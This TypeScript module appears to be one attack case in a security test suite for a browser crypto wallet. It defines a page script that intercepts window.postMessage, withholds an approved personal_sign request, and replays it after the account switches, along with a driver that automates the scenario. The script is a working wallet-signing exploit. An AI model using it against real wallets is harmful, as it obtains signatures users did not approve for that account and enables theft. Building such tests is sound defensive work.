import type { Attack } from '../Attack.ts';

/** The wallet's owner has moved on: the approval was for another account. */
export const attack: Attack = {
  entry: 'window.postMessage to the wallet',
  mechanism: 'approved, kept from the wallet, and posted after a real switch of the account',
  discovers: false,
  alone: true,
  script: `
await kit.ready();
await window.ethereum.request({ method: 'eth_requestAccounts' });
const { postMessage } = window;
window.postMessage = function (data, ...rest) { if (data?.data?.data?.method !== 'personal_sign') return postMessage.call(this, data, ...rest); };
window.ethereum.request(kit.sign()).catch(() => undefined);
window.go = () => postMessage.call(window, kit.message(kit.rpc(kit.sign())), location.origin);
`,
  drive: async ({ page, approve, marker, outside }) => {
    await page.waitForFunction('window.go !== undefined');
    await approve(marker);
    await new Promise((resolve) => setTimeout(resolve, 300));
    await outside.switchWallet({ account: 'second' });
    await page.evaluate('go()');
  },
};
